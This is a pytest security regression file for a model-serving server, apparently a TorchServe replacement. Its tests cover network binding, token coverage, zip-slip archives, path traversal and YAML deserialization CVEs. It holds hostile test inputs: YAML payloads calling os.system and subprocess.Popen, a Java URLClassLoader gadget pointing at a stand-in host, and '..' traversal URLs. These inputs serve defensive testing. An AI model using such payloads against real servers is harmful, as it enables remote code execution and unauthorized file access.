"""What the server that tserve replaces was attacked through: who can reach it, who may do what there, what archives do.

- CVE-2023-43654 and what led up to it: the management port on every interface (loopback is the default here).
- CVE-2024-35199: gRPC bound to all interfaces whatever the configuration and the documentation said.
- CVE-2023-48299 (GHSA-m2mj-pr4f-h9jp): zip slip, entries of an archive that leave its folder.
- CVE-2024-35198 (GHSA-wxcx-gg9c-fwp2): a URL with `..` was refused after its file had been copied into the store.
- CVE-2022-1471 (GHSA-mjmj-j48q-9wg2): a model's yaml could name objects to be made, of any class.
- Server-side request forgery (CVE-2023-43654) itself: test_sources.py.
- Tokens that came to some surfaces only (gRPC, and others, were forgotten): pytorch/serve #3234 and #3238.
"""

from __future__ import annotations

import ipaddress
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.archive.hostile_archives import CORPUS
from tests.e2e.archives import write
from tests.e2e.server import Server, running
from tests.e2e.sockets import listening
from tests.e2e.tokens import Bearer, ask, refusal
from tserve.settings import Settings

MakeServer = Callable[..., Server]


@pytest.mark.fresh
def test_a_default_start_listens_on_loopback_only(make_server: MakeServer, store: Path) -> None:
    """HTTP, gRPC and whatever workers may open, by the kernel's table of sockets."""
    write(store, "echo.mar")
    server = make_server("load_models=echo.mar", "default_workers_per_model=1")
    server.grpc = True
    with running(server):
        assert server.describe("echo")
        found = listening(server.pid)
        assert len(found) == 5, found
        assert {address for address, _ in found} == {"127.0.0.1"}
        ports = {int(url.rpartition(":")[2]) for url in server.urls.values()}
        assert {port for _, port in found} == ports


def test_the_defaults_of_all_addresses_are_loopback() -> None:
    """As settings have them: the test above says its ports, so its addresses, too."""
    settings = Settings(model_store=Path(), state_dir=Path())
    assert settings.open_addresses == {}
    for address in (settings.inference, settings.management, settings.metrics):
        assert ipaddress.ip_address(address.host).is_loopback
    for address in (settings.grpc_inference, settings.grpc_management):
        assert ipaddress.ip_address(address.host).is_loopback


@pytest.mark.fresh
def test_cve_2024_35199_grpc_binds_to_the_address_it_was_given(make_server: MakeServer) -> None:
    server = make_server("grpc_inference_address=127.0.0.2", "grpc_management_address=127.0.0.3")
    server.grpc = True
    with running(server):
        by_port = {port: address for address, port in listening(server.pid)}
        assert by_port[int(server.urls["grpc_inference"].rpartition(":")[2])] == "127.0.0.2"
        assert by_port[int(server.urls["grpc_management"].rpartition(":")[2])] == "127.0.0.3"


@pytest.mark.fresh
@pytest.mark.parametrize(
    "line",
    [
        *(f"{role}_address=http://0.0.0.0:0" for role in ("inference", "management", "metrics")),
        *(f"grpc_{role}_address=0.0.0.0" for role in ("inference", "management")),
    ],
)
def test_one_address_for_others_turns_tokens_on_for_every_surface(make_server: MakeServer, line: str) -> None:
    """No surface without authentication (pytorch/serve #3234, #3238): the one that others reach is not the only one."""
    server = make_server(line)
    server.grpc = True
    stranger = Bearer(None)
    with running(server):
        for role, path in (("management", "/models"), ("inference", "/ping")):
            assert refusal(server.call("GET", path, role=role)) == "no_token"
        for listener, method in (("grpc_management", "ListModels"), ("grpc_inference", "Ping")):
            service = {
                "ListModels": "org.pytorch.serve.grpc.management.ManagementAPIsService",
                "Ping": "org.pytorch.serve.grpc.inference.InferenceAPIsService",
            }[method]
            address = server.urls[listener].replace("0.0.0.0", "127.0.0.1")
            assert ask(address, service, method, stranger) == ("PERMISSION_DENIED", "no_token")
        assert server.call("GET", "/tserve/livez").status == 200


def contents(folder: Path) -> dict[str, tuple[int, int]]:
    """What is there, and when each folder changed last: a file that came and went shows, too."""
    return {str(path): (path.stat().st_mtime_ns, path.stat().st_size) for path in (folder, *folder.rglob("*"))}


@pytest.mark.fresh
def test_cve_2023_48299_ghsa_m2mj_pr4f_h9jp_zip_slip(make_server: MakeServer, store: Path, tmp_path: Path) -> None:
    archives = {each.name: each for each in CORPUS if each.refused == "unsafe_entry" and "parent" in each.name}
    assert len(archives) > 15
    with running(make_server()) as server:
        for name, hostile in archives.items():
            file = store / f"{name}.{'mar' if hostile.kind == 'zip' else 'tar.gz'}"
            file.write_bytes(hostile.make())
            answer = server.register(file.name)
            assert (answer.status, answer.text) == (500, f"Failed to save model: {file.name}")
            assert answer.json["tserve"]["reason"] == "unsafe_entry"
        assert (server.models(), server.kept(), server.incoming()) == ({}, set(), [])
        assert not [path for path in tmp_path.rglob("*") if path.name in ("evil", "b") and store not in path.parents]


@pytest.mark.fresh
def test_cve_2024_35198_ghsa_wxcx_gg9c_fwp2_nothing_is_copied_before_a_refusal(
    make_server: MakeServer, store: Path, tmp_path: Path
) -> None:
    (outside := tmp_path / "outside").mkdir()
    write(outside, "evil.mar")
    with running(
        make_server(f"allowed_urls=file://{store}.*,http://127.0.0.1.*", "allowed_networks=127.0.0.1/32")
    ) as server:
        folders = [store, server.state / "incoming", server.state / "archives", server.state / "downloads"]
        before = [contents(folder) for folder in folders]
        for url in (
            f"file://{store}/../outside/evil.mar",
            f"file://{store}/%2e%2e/outside/evil.mar",
            "../outside/evil.mar",
            str(store / ".." / "outside" / "evil.mar"),
            str(outside / "evil.mar"),
            f"file://{outside}/evil.mar",
            "http://127.0.0.1:9/models/../evil.mar",
            "http://127.0.0.1:9/models/%2e%2e/evil.mar",
        ):
            answer = server.register(url)
            assert answer.status in (400, 404), (url, answer.body)
            assert [contents(folder) for folder in folders] == before, url
        assert server.models() == {}


@pytest.mark.fresh
def test_cve_2022_1471_ghsa_mjmj_j48q_9wg2_yaml_makes_no_objects(
    make_server: MakeServer, store: Path, tmp_path: Path
) -> None:
    """The front end reads it in a process of its own, the worker reads it again."""
    mark = tmp_path / "made"
    configs = {
        "function": f"!!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path ['{mark}']]",
        "system": f"x: !!python/object/apply:os.system ['touch {mark}']",
        "new": f"x: !!python/object/new:subprocess.Popen [['touch', '{mark}']]",
        "module": "x: !!python/module:antigravity",
        "java": '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h"]]]]',
    }
    with running(make_server()) as server:
        for name, config in configs.items():
            write(store, f"{name}.mar", name=name, config=config)
            answer = server.register(f"{name}.mar", initial_workers=1, synchronous=True)
            assert answer.status == 200, answer.body  # as the recorded server: it has no config then
            assert "model-config.yaml' cannot be parsed" in server.log()
            assert server.predict(name).status == 200
        assert not mark.exists()
